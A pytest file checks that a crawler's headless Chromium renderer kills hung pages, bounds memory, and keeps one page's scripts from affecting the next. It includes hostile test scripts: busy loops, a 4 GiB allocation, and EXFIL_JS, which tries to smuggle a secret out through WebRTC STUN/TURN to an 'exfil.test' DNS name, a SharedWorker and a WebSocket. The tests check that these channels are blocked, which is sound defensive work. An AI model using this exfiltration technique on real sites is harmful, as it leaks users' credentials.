"""The browser's process lifecycle and isolation: hung pages killed with every process, nothing
leaving the browser but what the crawler's fetcher sends, memory bounded, no page breaking the next.

Real Chromium (Debian's /usr/bin/chromium) through Playwright, pages served on 127.0.0.1; the
network test runs its crawl in a child process inside a network namespace of its own.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import psutil
import pytest

from plugins.connectors.web.render import availability, browser
from plugins.connectors.web.render.launch import ChromiumProcess, launch_chromium, tagged_processes
from tests.web.helpers import Run, make_connector, serve_directory
from tests.web.spa import LOOP_SHELL
from tests.web.test_render import _parse

UNAVAILABLE = availability()
needs_browser = pytest.mark.skipif(UNAVAILABLE is not None, reason=f"rendering unavailable: {UNAVAILABLE}")
MIB = 1024 * 1024
REPO = Path(__file__).resolve().parents[2]

PLAIN = "<!doctype html><html><head><title>{name}</title></head><body><p>{text}</p>{script}</body></html>"


def _page(root: Path, name: str, text: str, script: str = "") -> None:
    (root / name).mkdir(parents=True, exist_ok=True)
    (root / name / "index.html").write_text(PLAIN.format(name=name, text=text, script=script))


@pytest.fixture
def launched(monkeypatch: pytest.MonkeyPatch) -> list[ChromiumProcess]:
    """Every browser the pool launches during the test (the real launch, recorded)."""
    processes: list[ChromiumProcess] = []

    async def recording_launch(*args: Any, **kwargs: Any) -> ChromiumProcess:
        process = await launch_chromium(*args, **kwargs)
        processes.append(process)
        return process

    monkeypatch.setattr(browser, "launch_chromium", recording_launch)
    return processes


def _chromium_descendants() -> list[psutil.Process]:
    """Running Chromium processes under this test process (whatever launched them)."""
    found = []
    for proc in psutil.Process().children(recursive=True):
        try:
            if "chrom" in proc.name().lower() and proc.status() != psutil.STATUS_ZOMBIE:
                found.append(proc)
        except psutil.Error:
            continue
    return found


def _left_behind(processes: list[ChromiumProcess]) -> list[psutil.Process]:
    return [*_chromium_descendants(), *(p for launch in processes for p in tagged_processes(launch.tag))]


# -- 1. a render timeout kills the browser's whole process tree ---------------------------------


@needs_browser
def test_hung_pages_leave_no_chromium_process(tmp_path: Path, launched: list[ChromiumProcess]) -> None:
    site = tmp_path / "site"
    hung = ["loop0", "loop1"]
    for name in hung:
        (site / name).mkdir(parents=True)
        (site / name / "index.html").write_text(LOOP_SHELL)
    _page(site, "fine", "a page that renders after the hung ones")
    with serve_directory(site) as base:
        connector = make_connector(
            seeds=[*(f"{base}/{name}/" for name in hung), f"{base}/fine/"],
            use_sitemaps=False,
            render="always",
            render_timeout_seconds=2,
            concurrency=1,
        )
        run = Run(connector, tmp_path / "stage")
    failed = {f["item_key"]: f["reason"] for f in run.discovery.stats["failed"]}
    assert failed == {f"{base}/{name}/": "render:timeout" for name in hung}
    assert [c.item_key for c in run.changes] == [f"{base}/fine/"]
    assert run.discovery.stats["render"]["render_timeout"] == 2
    assert len(launched) == 3  # one browser per hung page, killed, and one for the page after
    assert _left_behind(launched) == []


def test_a_killed_worker_takes_its_browser_with_it(tmp_path: Path) -> None:
    """PR_SET_PDEATHSIG: the kernel kills Chromium when the process that launched it dies."""
    if UNAVAILABLE is not None:
        pytest.skip(f"rendering unavailable: {UNAVAILABLE}")
    worker = subprocess.Popen(
        [sys.executable, "-c", _WORKER],
        cwd=REPO,
        stdout=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    try:
        assert worker.stdout is not None
        tag = worker.stdout.readline().strip()
        assert tag and tagged_processes(tag), "the worker launched no browser"
    finally:
        os.killpg(worker.pid, signal.SIGKILL)
        worker.wait(timeout=30)
    deadline = time.monotonic() + 15  # generous: the children notice their parent's end
    while tagged_processes(tag) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert tagged_processes(tag) == []


_WORKER = """
import asyncio, time
from plugins.connectors.web.render.browser import BrowserSettings
from plugins.connectors.web.render.launch import launch_chromium
process = asyncio.run(launch_chromium(BrowserSettings().executable, BrowserSettings().args(), 20))
print(process.tag, flush=True)
time.sleep(120)
"""


# -- 3. the renderer processes' memory is bounded as a whole --------------------------------------

# 16 ArrayBuffers of 256 MiB, written so their pages are resident (outside V8's heap limit)
ALLOCATING = (
    "<script>const kept = []; for (let i = 0; i < 16; i++) {"
    " const b = new ArrayBuffer(256 * 1048576); new Uint8Array(b).fill(1); kept.push(b);"
    " document.title = 'allocated ' + (i + 1); }</script>"
)


@contextmanager
def _peak_memory(processes: list[ChromiumProcess]) -> Iterator[list[int]]:
    """The highest sum of resident memory of the launched browsers' processes, sampled every 20 ms."""
    peak = [0]
    stop = threading.Event()

    def sample() -> None:
        while not stop.wait(0.02):
            total = 0
            for launch in list(processes):
                for proc in launch.processes():
                    try:
                        total += proc.memory_info().rss
                    except psutil.Error:
                        continue
            peak[0] = max(peak[0], total)

    thread = threading.Thread(target=sample, daemon=True)
    thread.start()
    try:
        yield peak
    finally:
        stop.set()
        thread.join(timeout=5)


@needs_browser
def test_a_page_over_its_memory_is_killed_and_the_next_renders(tmp_path: Path, launched: list[ChromiumProcess]) -> None:
    site = tmp_path / "site"
    _page(site, "hog", "a page that allocates 4 GiB", ALLOCATING)
    _page(site, "after", "the page after the hog")
    with serve_directory(site) as base, _peak_memory(launched) as peak:
        connector = make_connector(
            seeds=[f"{base}/hog/", f"{base}/after/"],
            use_sitemaps=False,
            render="always",
            render_timeout_seconds=30,
            render_max_memory_mb=256,
            concurrency=1,
        )
        run = Run(connector, tmp_path / "stage")
    failed = {f["item_key"]: f["reason"] for f in run.discovery.stats["failed"]}
    assert failed == {f"{base}/hog/": "render:memory"}
    (after,) = run.changes
    assert after.item_key == f"{base}/after/" and after.metadata["rendered"] is True
    assert "the page after the hog" in " ".join(b.text for b in _parse(after).blocks)
    # an idle tree holds ~1.2 GiB (RSS summed), the renderer's bound is 256 + 192 MiB, and one poll
    # interval's allocation may come over it; unbounded, the page took the tree past 4.4 GiB
    assert peak[0] < 2560 * MIB, f"peak {peak[0] // MIB} MiB"
    assert _left_behind(launched) == []


# -- 5. one page's scripts cannot break the next page ---------------------------------------------

HOSTILE_SCRIPTS = {
    # a busy loop started after the load (and after the render is done)
    "late-loop": "<script>addEventListener('load', () => setTimeout(() => { while (true) {} }, 1500));</script>",
    "pagehide-loop": "<script>addEventListener('pagehide', () => { while (true) {} });</script>",
    "beforeunload": "<script>addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 'stay'; });"
    "</script>",
}


@needs_browser
def test_a_page_left_running_does_not_break_the_next(tmp_path: Path, launched: list[ChromiumProcess]) -> None:
    site = tmp_path / "site"
    seeds = []
    for name, script in HOSTILE_SCRIPTS.items():
        _page(site, name, f"hostile {name}", script)
        _page(site, f"after-{name}", f"the page after {name}")
        seeds += [f"/{name}/", f"/after-{name}/"]
    with serve_directory(site) as base:
        connector = make_connector(
            seeds=[base + seed for seed in seeds],
            use_sitemaps=False,
            render="always",
            render_timeout_seconds=6,
            concurrency=1,
            render_concurrency=1,
        )
        run = Run(connector, tmp_path / "stage")
    assert run.discovery.stats["failed"] == []
    pages = {c.item_key.removeprefix(base): c for c in run.changes}
    assert set(pages) == set(seeds)
    for name in HOSTILE_SCRIPTS:
        text = " ".join(b.text for b in _parse(pages[f"/after-{name}/"]).blocks)
        assert f"the page after {name}" in text
    assert len(launched) == 1  # no page needed its browser killed
    assert _left_behind(launched) == []


# -- 2. nothing leaves the browser but what the crawler's fetcher sends ---------------------------

SECRET = "ACCT-4242-credential-only"
# The page reads a text the site gives the crawler only, then tries every way out it has
# that request interception does not see: WebRTC (STUN/TURN by address and by a host name made of
# the secret: a DNS query is a message out), in its own frame and in a fresh iframe; a
# SharedWorker's fetch; a WebSocket. It writes what it tried at once (a loaded machine may end the
# render at any quiet moment), then keeps changing its DOM for a second, so the render lasts.
EXFIL_JS = """
(async () => {
  const secret = await (await fetch('/secret.txt')).text();
  const name = Array.from(secret.trim()).map(c => c.charCodeAt(0).toString(16)).join('').slice(0, 60);
  const servers = [{urls: 'stun:127.0.0.2:3478'}, {urls: 'stun:' + name + '.exfil.test:3478'},
                   {urls: 'turn:127.0.0.2:3478?transport=udp', username: 'u', credential: 'c'},
                   {urls: 'turn:127.0.0.2:3478?transport=tcp', username: 'u', credential: 'c'}];
  const tries = [];
  const peer = (Ctor, where) => {
    try {
      const pc = new Ctor({iceServers: servers});
      pc.createDataChannel('x');
      pc.createOffer().then(o => pc.setLocalDescription(o));
      tries.push(where + ': peer connection');
    } catch (e) { tries.push(where + ': ' + e.name); }
  };
  peer(window.RTCPeerConnection, 'page');
  const frame = document.createElement('iframe');
  document.body.appendChild(frame);
  peer(frame.contentWindow.RTCPeerConnection, 'iframe');
  try { new SharedWorker('/worker.js'); tries.push('shared worker'); } catch (e) { tries.push('worker: ' + e.name); }
  try { new WebSocket('ws://' + location.host + '/socket'); } catch (e) { tries.push('socket: ' + e.name); }
  const p = document.createElement('p'); p.id = 'tries'; p.textContent = tries.join('; ');
  document.body.appendChild(p);
  for (let i = 0; i < 10; i++) {
    await new Promise(r => setTimeout(r, 100));
    const p = document.createElement('p'); p.textContent = 'tick ' + i; document.body.appendChild(p);
  }
})();
"""
CRAWLER_AGENT = "tributary-crawler-test"  # the site serves the secret to this agent only
WORKER_JS = "fetch('/from-shared-worker?' + Date.now()).catch(() => {});"


def _namespace_refusal() -> str | None:
    if UNAVAILABLE is not None:
        return f"rendering unavailable: {UNAVAILABLE}"
    if shutil.which("unshare") is None or shutil.which("ip") is None:
        return "unshare(1) or ip(8) missing"
    probe = subprocess.run(
        ["unshare", "-n", "-m", "sh", "-c", "ip link set lo up && mount --bind /dev/null /etc/hostname"],
        capture_output=True,
        text=True,
        timeout=30,
    )
    if probe.returncode != 0:
        return f"no network and mount namespace here (unshare -n -m: {probe.stderr.strip()[:200]})"
    return None


@pytest.mark.skipif(sys.platform != "linux", reason="network namespaces are Linux's")
def test_nothing_leaves_the_browser_but_the_crawlers_requests(tmp_path: Path) -> None:
    reason = _namespace_refusal()
    if reason:
        pytest.skip(reason)
    done = subprocess.run(
        ["unshare", "-n", "-m", sys.executable, "-m", "tests.web.test_render_isolation", str(tmp_path)],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    seen = json.loads(done.stdout.strip().splitlines()[-1])
    assert seen["rendered"] == ["/"], seen
    assert seen["udp_packets"] == 0 and seen["dns_queries"] == [], seen  # no STUN/TURN, no DNS
    # nothing slipped past interception: the dead proxy got no byte (Chromium opens one empty
    # connection to it at a navigation's start, the navigation itself then being intercepted)
    assert seen["proxy_requests"] == [], seen
    assert seen["other_agents"] == [], seen  # every request the site saw was the crawler's
    assert "/from-shared-worker" not in seen["paths"], seen
    assert seen["secret_fetches"] == 1, seen  # the page had the text, through the crawler's fetcher
    assert "page: TypeError" in seen["tries"] and "iframe: TypeError" in seen["tries"], seen
    assert "worker: ReferenceError" in seen["tries"], seen


class _SiteHandler(http.server.BaseHTTPRequestHandler):
    """The site: its page, the script, a text that needs the crawler's credentials, the worker."""

    seen: list[tuple[str, str]] = []  # noqa: RUF012  # set per server (see _serve_site)

    def do_GET(self) -> None:
        self.seen.append((self.path, self.headers.get("user-agent", "")))
        path = self.path.split("?")[0]
        if path == "/secret.txt" and self.headers.get("user-agent") != CRAWLER_AGENT:
            self._send(401, "text/plain", b"credentials required")
            return
        body = {
            "/": ("text/html", b"<!doctype html><html><body><p>page</p><script src='/app.js'></script></body></html>"),
            "/app.js": ("text/javascript", EXFIL_JS.encode()),
            "/worker.js": ("text/javascript", WORKER_JS.encode()),
            "/secret.txt": ("text/plain", SECRET.encode()),
        }.get(path)
        if body is None:
            self._send(404, "text/plain", b"no")
        else:
            self._send(200, *body)

    def _send(self, status: int, content_type: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("content-type", content_type)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


class _Listeners:
    """What would have left the browser: UDP to the blocked address, DNS, the proxy port."""

    def __init__(self) -> None:
        self.udp_packets = 0
        self.dns_queries: list[str] = []
        self.proxy_requests: list[str] = []
        self._udp(("127.0.0.2", 3478), lambda data: setattr(self, "udp_packets", self.udp_packets + 1))
        self._udp(("127.0.0.1", 53), lambda data: self.dns_queries.append(data[12:80].decode("latin-1")))
        proxy = socket.create_server(("127.0.0.1", 9))
        threading.Thread(target=self._accept, args=(proxy,), daemon=True).start()

    def _udp(self, address: tuple[str, int], record: Any) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind(address)

        def loop() -> None:
            while True:
                record(sock.recv(65535))

        threading.Thread(target=loop, daemon=True).start()

    def _accept(self, server: socket.socket) -> None:
        while True:
            conn, _ = server.accept()
            conn.settimeout(1)
            with contextlib.suppress(OSError):
                first_line = conn.recv(200).split(b"\r\n")[0]
                if first_line:
                    self.proxy_requests.append(first_line.decode("latin-1"))
            conn.close()


def _inside_namespace(work: Path) -> dict[str, Any]:
    """In a fresh network namespace: lo, plus a veth pair with both ends inside (WebRTC gathers
    candidates only on a non-loopback interface) and a resolv.conf naming 127.0.0.1, bind-mounted
    in this mount namespace only, so any DNS query arrives at the listener."""
    subprocess.run(
        "ip link set lo up && ip link add tb0 type veth peer name tb1 && ip addr add 10.233.0.1/24 dev tb0"
        " && ip link set tb1 up && ip link set tb0 up",
        shell=True,
        check=True,
    )
    resolv = work / "resolv.conf"
    resolv.write_text("nameserver 127.0.0.1\n")
    subprocess.run(["mount", "--bind", str(resolv), "/etc/resolv.conf"], check=True)
    listeners = _Listeners()
    handler = type("Site", (_SiteHandler,), {"seen": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    connector = make_connector(
        seeds=[f"{base}/"],
        use_sitemaps=False,
        respect_robots=False,
        render="always",
        render_timeout_seconds=20,
        user_agent=CRAWLER_AGENT,
    )
    run = Run(connector, work / "stage")
    time.sleep(1.0)  # anything the browser sent late has arrived
    page = _parse(run.changes[0]) if run.changes else None
    tries = (
        next((b.text for b in page.blocks if "peer connection" in b.text or "TypeError" in b.text), "") if page else ""
    )
    server.shutdown()
    return {
        "rendered": [c.item_key.removeprefix(base) for c in run.changes if c.metadata.get("rendered")],
        "failed": run.discovery.stats["failed"],
        "udp_packets": listeners.udp_packets,
        "dns_queries": listeners.dns_queries,
        "proxy_requests": listeners.proxy_requests,
        "paths": [path.split("?")[0] for path, _ in handler.seen],
        "other_agents": [(path, agent) for path, agent in handler.seen if agent != CRAWLER_AGENT],
        "secret_fetches": sum(path == "/secret.txt" for path, _ in handler.seen),
        "tries": tries,
    }


if __name__ == "__main__":  # the child of test_nothing_leaves_the_browser_but_the_crawlers_requests
    workdir = Path(tempfile.mkdtemp(dir=sys.argv[1]))
    print(json.dumps(_inside_namespace(workdir)))
